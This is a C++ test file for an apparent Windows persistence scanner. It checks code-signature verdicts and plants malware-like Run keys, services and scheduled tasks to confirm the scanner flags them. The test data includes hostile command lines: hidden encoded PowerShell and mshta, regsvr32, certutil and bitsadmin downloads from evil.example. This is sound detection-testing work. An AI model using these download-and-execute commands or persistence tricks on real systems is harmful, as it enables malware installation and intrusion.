// The judge over this system: signatures as the system's verifier sees
// programs signed the way publishers sign them (a test root of our own),
// the catalog seam, and a whole scan with planted entries of the kinds
// malware uses beside the vendor programs every PC has.
#include "judge/windows_facts.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <nlohmann/json.hpp>

#include <filesystem>

#include "judge/testing/signed_programs.h"
#include "service/test_service_fixture.h"
#include "sysroutines/scheduled_tasks.h"
#include "win32/file_path.h"
#include "tests/support/test_support.h"
#include "win32/registry.h"
#include "win32/registry_write.h"
#include "win32/unicode.h"

namespace wl {
namespace {

using ::testing::Contains;
using ::testing::HasSubstr;

using test::KnownFolder;
using test::PlacedCopy;
using test::Signed;
using test::TestRoot;

TEST(WindowsFacts, SignaturesAsTheSystemsVerifierSeesThem) {
  const WindowsFacts facts;
  const SignatureInfo vendor = facts.Signature(Signed("vendor.exe"));
  EXPECT_EQ(vendor.state, SignatureState::Verified) << vendor.detail;
  EXPECT_EQ(vendor.signer, "Wardenlake Test Vendor");
  EXPECT_EQ(vendor.rootThumbprint, TestRoot());
  EXPECT_FALSE(vendor.catalog);

  EXPECT_EQ(facts.Signature(Signed("unsigned.exe")).state, SignatureState::NotSigned);
  const SignatureInfo broken = facts.Signature(Signed("broken.exe"));
  EXPECT_EQ(broken.state, SignatureState::Broken) << broken.detail;

  // The emulation layer's verifier accepts a chain to any root, as a root a
  // program planted in the machine's store would pass on Windows: the name
  // is "Microsoft Corporation", the root is not Microsoft's.
  const SignatureInfo fake = facts.Signature(Signed("fakems.exe"));
  EXPECT_EQ(fake.state, SignatureState::Verified);
  EXPECT_EQ(fake.signer, "Microsoft Corporation");
  EXPECT_EQ(fake.rootThumbprint, TestRoot());

  EXPECT_EQ(facts.Sha256(Signed("unsigned.exe")).size(), 64u);
  EXPECT_EQ(facts.Signature(Signed("no-such.exe")).state, SignatureState::Unreadable);
  EXPECT_FALSE(facts.IsFile(test::BinaryDir()));  // a folder is no file
  EXPECT_FALSE(facts.Open(test::BinaryDir())->Identity().exists);
  EXPECT_TRUE(facts.Open(Signed("unsigned.exe"))->Identity().exists);
}

TEST(WindowsFacts, VerifierAnswersMeanWhatTheySay) {
  EXPECT_EQ(SignatureStateOf(0, 0), SignatureState::Verified);
  EXPECT_EQ(SignatureStateOf(static_cast<long>(TRUST_E_NOSIGNATURE), static_cast<unsigned long>(TRUST_E_NOSIGNATURE)),
            SignatureState::NotSigned);
  // "No signature" with another cause: a signature is there but damaged.
  EXPECT_EQ(SignatureStateOf(static_cast<long>(TRUST_E_NOSIGNATURE), static_cast<unsigned long>(CRYPT_E_BAD_MSG)),
            SignatureState::Broken);
  EXPECT_EQ(SignatureStateOf(static_cast<long>(TRUST_E_BAD_DIGEST), 0), SignatureState::Broken);
  EXPECT_EQ(SignatureStateOf(static_cast<long>(CERT_E_UNTRUSTEDROOT), 0), SignatureState::Untrusted);
  EXPECT_EQ(SignatureStateOf(static_cast<long>(CERT_E_REVOKED), 0), SignatureState::Untrusted);
  // Revocation that cannot be checked offline does not undo a good chain.
  EXPECT_EQ(SignatureStateOf(static_cast<long>(CERT_E_REVOCATION_FAILURE), 0), SignatureState::Verified);
}

// Most of Windows' own files are signed only in catalogs; the emulation
// layer has none of them, so the catalog branch is tested through its seam.
TEST(WindowsFacts, AFileWithoutASignatureOfItsOwnIsLookedUpInTheCatalogs) {
  std::vector<std::string> asked;
  const WindowsFacts facts([&asked](const std::string& path) -> std::optional<SignatureInfo> {
    asked.push_back(path);
    SignatureInfo info;
    info.state = SignatureState::Verified;
    info.catalog = true;
    info.signer = "Microsoft Windows";
    info.rootThumbprint = "DF545BF919A2439C36983B54CDFC903DFA4F37D3996D8D84B4C31EEC6F3C163E";
    return info;
  });
  const SignatureInfo info = facts.Signature(Signed("unsigned.exe"));
  EXPECT_TRUE(info.catalog);
  EXPECT_EQ(info.signer, "Microsoft Windows");
  // A file with a signature of its own is never looked up.
  facts.Signature(Signed("vendor.exe"));
  EXPECT_EQ(asked, std::vector<std::string>{Signed("unsigned.exe")});
  // The system's own catalog lookup: nothing lists a test program.
  EXPECT_FALSE(VerifyCatalogSignature(Signed("unsigned.exe")));
  EXPECT_FALSE(VerifyCatalogSignature(Signed("no-such.exe")));
}

TEST(WindowsFacts, OnlySignerDbsRootsMakeASignerMicrosoft) {
  // A root planted in the machine's store: the system trusts the chain.
  test::RootInStore planted(Signed("root.der"), CERT_SYSTEM_STORE_LOCAL_MACHINE);
  ReferenceTables tables;
  const WindowsFacts facts;
  PlacedCopy fake(KnownFolder("ProgramFiles") + "\\WlTest Fake " + std::to_string(GetCurrentProcessId()),
                  Signed("fakems.exe"), "mssvc.exe");
  {
    const Judge judge(tables, facts);
    const Judgement j = judge.Assess({"\"" + fake.path() + "\"", Origin::Service});
    EXPECT_EQ(j.verdict, Verdict::Suspicious);
    EXPECT_TRUE(j.flagged);
    EXPECT_EQ(j.signer, "(Signer not trusted) Microsoft Corporation");
  }
  tables.signers = StringTable::FromText(TestRoot() + "=Microsoft\n");
  const Judge judge(tables, facts);
  const Judgement j = judge.Assess({"\"" + fake.path() + "\"", Origin::Service});
  EXPECT_EQ(j.verdict, Verdict::Trusted);
  EXPECT_FALSE(j.flagged);
  EXPECT_EQ(j.signer, "(Verified) Microsoft Corporation");
}

// A task's definition file in the system's task store, removed afterwards.
class StoredTask {
 public:
  StoredTask(const std::string& folder, const std::string& name, const std::string& command,
             const std::string& arguments)
      : dir_(TaskStoreFolder() + "\\" + folder), file_(dir_ + "\\" + name) {
    CreateDirectoryW(win32::ApiPath(dir_).c_str(), nullptr);
    const std::string xml =
        "<?xml version=\"1.0\" encoding=\"UTF-16\"?><Task xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">"
        "<Triggers><LogonTrigger><Enabled>true</Enabled></LogonTrigger></Triggers><Actions Context=\"Author\"><Exec>"
        "<Command>" + command + "</Command><Arguments>" + arguments + "</Arguments></Exec></Actions></Task>";
    const std::wstring wide = win32::Widen(xml);
    test::WriteBytes(file_, std::string("\xFF\xFE", 2) +
                                std::string(reinterpret_cast<const char*>(wide.data()), wide.size() * 2));
  }
  ~StoredTask() {
    DeleteFileW(win32::ApiPath(file_).c_str());
    RemoveDirectoryW(win32::ApiPath(dir_).c_str());
  }

 private:
  std::string dir_, file_;
};

// What a user's PC holds beside what malware plants: every planted entry
// of malware is in "wlscan scan", no vendor entry is, and every vendor row
// names its signer.
TEST(WindowsFacts, AScanFlagsWhatMalwarePlantsAndNotWhatVendorsInstall) {
  // The vendor's root is one the machine trusts, as on a PC.
  test::RootInStore vendorRoot(Signed("root.der"), CERT_SYSTEM_STORE_LOCAL_MACHINE);
  const std::string pid = std::to_string(GetCurrentProcessId());
  const std::string run = "Software\\Microsoft\\Windows\\CurrentVersion\\Run";
  PlacedCopy vendorApp(KnownFolder("ProgramFiles") + "\\WlTest Vendor " + pid, Signed("vendor.exe"), "vendor.exe");
  PlacedCopy vendorUser(KnownFolder("APPDATA") + "\\WlTestVendor" + pid, Signed("vendor.exe"), "updater.exe");
  PlacedCopy masquerade(KnownFolder("PUBLIC").empty() ? "C:\\users\\Public\\WlTest" + pid
                                                      : KnownFolder("PUBLIC") + "\\WlTest" + pid,
                        Signed("unsigned.exe"), "svchost.exe");
  PlacedCopy rat(KnownFolder("APPDATA") + "\\Install" + pid, Signed("unsigned.exe"), "Host.exe");
  PlacedCopy broken(KnownFolder("ProgramFiles") + "\\WlTest Broken " + pid, Signed("broken.exe"), "app.exe");
  PlacedCopy claims(KnownFolder("ProgramFiles") + "\\WlTest Claims " + pid,
                    test::BinaryDir() + "\\wl_version_microsoft.exe", "winhelper.exe");
  PlacedCopy dll(KnownFolder("APPDATA") + "\\WlTestDll" + pid, Signed("unsigned.exe"), "payload.dll");

  const std::vector<std::pair<std::string, std::string>> malicious = {
      {"WlBad-ps-" + pid, "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"},
      {"WlBad-masq-" + pid, masquerade.path()},
      {"WlBad-rat-" + pid, rat.path()},
      {"WlBad-zz-" + pid, "C:\\zz" + pid + "\\q.exe"},
      {"WlBad-broken-" + pid, "\"" + broken.path() + "\""},
      {"WlBad-claims-" + pid, "\"" + claims.path() + "\""},
      {"WlBad-mshta-" + pid, "mshta.exe http://evil.example/a.hta"},
      {"WlBad-mshtajs-" + pid, "mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"x\"\"\")"},
      {"WlBad-rundll-" + pid, "rundll32.exe \"" + dll.path() + "\",Start"},
      {"WlBad-rundlljs-" + pid, "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";alert(1)"},
      {"WlBad-regsvr-" + pid, "regsvr32 /s /n /u /i:http://evil.example/a.sct scrobj.dll"},
      {"WlBad-certutil-" + pid, "certutil.exe -urlcache -split -f http://evil.example/a.exe %TEMP%\\a.exe"},
      {"WlBad-bits-" + pid, "bitsadmin /transfer j http://evil.example/a.exe C:\\a.exe"},
      {"WlBad-cmd-" + pid, "cmd.exe /c start \"\" /min powershell -w hidden -c \"iex (iwr http://e.example/p)\""},
  };
  const std::vector<std::pair<std::string, std::string>> benign = {
      {"WlGood-app-" + pid, "\"" + vendorApp.path() + "\" /background"},
      {"WlGood-user-" + pid, "\"" + vendorUser.path() + "\" --autostart"},
  };
  auto key = win32::RegWriteKey::Create(HKEY_CURRENT_USER, run);
  ASSERT_TRUE(key);
  for (const auto& [name, data] : malicious) ASSERT_EQ(key->WriteString(name, data), ERROR_SUCCESS);
  for (const auto& [name, data] : benign) ASSERT_EQ(key->WriteString(name, data), ERROR_SUCCESS);

  // Services: one that runs cmd /c, one hidden in svchost with its own DLL,
  // and a vendor's signed one.
  test::TestService cmdService, hosted, vendorService;
  ASSERT_TRUE(cmdService.ok() && hosted.ok() && vendorService.ok());
  win32::RegWriteKey::Open(HKEY_LOCAL_MACHINE, cmdService.registryKey(), KEY_WRITE)
      ->WriteString("ImagePath", "%COMSPEC% /c powershell -w hidden -enc SQBFAFgA", REG_EXPAND_SZ);
  win32::RegWriteKey::Open(HKEY_LOCAL_MACHINE, hosted.registryKey(), KEY_WRITE)
      ->WriteString("ImagePath", "%SystemRoot%\\System32\\svchost.exe -k wltestgroup", REG_EXPAND_SZ);
  win32::RegWriteKey::Create(HKEY_LOCAL_MACHINE, hosted.registryKey() + "\\Parameters", KEY_WRITE)
      ->WriteString("ServiceDll", dll.path(), REG_EXPAND_SZ);
  win32::RegWriteKey::Open(HKEY_LOCAL_MACHINE, vendorService.registryKey(), KEY_WRITE)
      ->WriteString("ImagePath", "\"" + vendorApp.path() + "\" --service");

  // Tasks: a vendor's updater, and one that runs an encoded PowerShell command.
  const std::string taskFolder = "WlTestJudge" + pid;
  StoredTask updater(taskFolder, "Updater", vendorApp.path(), "/update");
  StoredTask badTask(taskFolder, "Helper", "powershell.exe", "-w hidden -enc SQBFAFgA");

  const auto scan = test::RunProgram("wlscan", {"scan", "--format", "json"});
  const auto listing = test::RunProgram("wlscan", {"autorun", "--format", "json"});
  const auto services = test::RunProgram("wlscan", {"services", "--format", "json"});
  for (const auto& [name, data] : malicious) key->DeleteValue(name);
  for (const auto& [name, data] : benign) key->DeleteValue(name);

  ASSERT_EQ(scan.status, 1) << scan.err;
  const auto doc = nlohmann::json::parse(scan.out);
  std::set<std::string> ids, items;
  for (const auto& item : doc["items"]) {
    ids.insert(item["id"].get<std::string>());
    items.insert(item["item"].get<std::string>());
  }
  EXPECT_TRUE(items.count("\\" + taskFolder + "\\Helper"));
  EXPECT_FALSE(items.count("\\" + taskFolder + "\\Updater"));
  const std::string prefix = "autorun/HKEY_CURRENT_USER\\" + run + "\\";
  for (const auto& [name, data] : malicious) EXPECT_TRUE(ids.count(prefix + name)) << name << ": " << data;
  for (const auto& [name, data] : benign) EXPECT_FALSE(ids.count(prefix + name)) << name;
  EXPECT_TRUE(ids.count("services/" + cmdService.keyName()));
  EXPECT_TRUE(ids.count("services/" + hosted.keyName()));
  EXPECT_FALSE(ids.count("services/" + vendorService.keyName()));

  // Every row says who signed what it judged.
  const auto listingDoc = nlohmann::json::parse(listing.out);
  const auto& rows = listingDoc["rows"];
  int named = 0;
  for (const auto& row : rows) {
    for (const auto& [name, data] : benign)
      if (row["name"] == name) {
        EXPECT_EQ(row["signer"], "(Verified) Wardenlake Test Vendor") << name;
        EXPECT_EQ(row["verdict"], "trusted") << name;
        EXPECT_EQ(row["sha256"].get<std::string>().size(), 64u);
        ++named;
      }
    if (row["name"] == "WlBad-broken-" + pid)
      EXPECT_TRUE(row["signer"].get<std::string>().starts_with("(Signature broken)")) << row["signer"];
  }
  EXPECT_EQ(named, 2);
  bool vendorSigned = false;
  const auto serviceDoc = nlohmann::json::parse(services.out);
  for (const auto& row : serviceDoc["rows"])
    if (row["name"] == vendorService.keyName()) vendorSigned = row["signer"] == "(Verified) Wardenlake Test Vendor";
  EXPECT_TRUE(vendorSigned) << services.out;
}

}  // namespace
}  // namespace wl
